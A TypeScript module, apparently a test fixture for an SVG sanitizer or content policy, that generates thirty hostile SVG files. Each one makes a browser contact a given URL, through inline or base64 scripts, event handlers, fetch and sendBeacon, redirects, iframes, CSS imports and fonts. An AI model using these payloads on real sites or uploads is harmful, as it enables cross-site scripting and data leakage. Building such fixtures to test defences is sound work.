const XMLNS = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"';
const XHTML = 'xmlns="http://www.w3.org/1999/xhtml"';

/** A file that calls `home` when a browser shows it, unless something keeps it from doing so. */
type Attack = (home: string) => string;

const svg = (content: string, attributes = '', before = ''): string =>
  `<?xml version="1.0"?>${before}<svg ${XMLNS} width="9" height="9" ${attributes}>${content}</svg>`;
const html = (content: string): string => `<foreignObject width="9" height="9">${content}</foreignObject>`;
const call = (home: string): string => `new Image().src='${home}'`;
const encoded = (text: string): string => Buffer.from(text).toString('base64');

/** Thirty ways to run a script, load something or lead elsewhere. */
export const HOSTILE_SVGS: Readonly<Record<string, Attack>> = {
  'a script': (home) => svg(`<script>${call(home)}</script>`),
  'a script in CDATA': (home) => svg(`<script><![CDATA[${call(home)}]]></script>`),
  'a script from elsewhere': (home) => svg(`<script href="${home}"/>`),
  'a script from elsewhere, by XLink': (home) => svg(`<script xlink:href="${home}"/>`),
  'a script in a data address': (home) =>
    svg(`<script href="data:text/javascript,${encodeURIComponent(call(home))}"/>`),
  'a script in a base64 data address': (home) =>
    svg(`<script href="data:text/javascript;base64,${encoded(call(home))}"/>`),
  'a script that waits': (home) => svg(`<script>addEventListener('load', () => { ${call(home)} })</script>`),
  'a script of HTML': (home) => svg(`<script ${XHTML}>${call(home)}</script>`),
  'a script of HTML in a foreign object': (home) => svg(html(`<script ${XHTML}>${call(home)}</script>`)),
  'a fetch': (home) => svg(`<script>fetch('${home}', { mode: 'no-cors' })</script>`),
  'a beacon': (home) => svg(`<script>navigator.sendBeacon('${home}')</script>`),
  'a new address': (home) => svg(`<script>location = '${home}'</script>`),
  'a window': (home) => svg(`<script>open('${home}')</script>`),
  'a worker': (home) => svg(`<script>new Worker('data:text/javascript,fetch("${home}",{mode:"no-cors"})')</script>`),
  'onload of the root': (home) => svg('', `onload="${call(home)}"`),
  'onload of an image': (home) =>
    svg(`<image href="data:image/gif;base64,R0lGODlhAQABAAAAACw=" onload="${call(home)}" onerror="${call(home)}"/>`),
  'onbegin of an animation': (home) => svg(`<animate attributeName="x" dur="1s" onbegin="${call(home)}"/>`),
  'a video': (home) => svg(html(`<video ${XHTML} poster="${home}" src="${home}"/>`)),
  'onerror of an image of HTML': (home) => svg(html(`<img ${XHTML} src="data:," onerror="${call(home)}"/>`)),
  'an image': (home) => svg(`<image href="${home}" width="9" height="9"/>`),
  'a filter with an image': (home) =>
    svg(`<filter id="f"><feImage href="${home}"/></filter><rect width="9" height="9" filter="url(#f)"/>`),
  'a style sheet that imports': (home) => svg(`<style>@import url('${home}');</style>`),
  'a style with an image': (home) => svg(html(`<div ${XHTML} style="height: 9px; background: url('${home}')"/>`)),
  'a font': (home) =>
    svg(
      `<style>@font-face { font-family: a; src: url('${home}') } text { font-family: a }</style><text y="9">a</text>`,
    ),
  'a style sheet before the root': (home) => svg('', '', `<?xml-stylesheet type="text/css" href="${home}"?>`),
  'a frame': (home) => svg(html(`<iframe ${XHTML} src="${home}"/>`)),
  'a frame with a script': (home) => svg(html(`<iframe ${XHTML} srcdoc="&lt;script>${call(home)}&lt;/script>"/>`)),
  'an object': (home) => svg(html(`<object ${XHTML} data="${home}"/>`)),
  'something embedded': (home) => svg(html(`<embed ${XHTML} src="${home}"/>`)),
  'a link to a style sheet': (home) => svg(html(`<link ${XHTML} rel="stylesheet" href="${home}"/>`)),
};
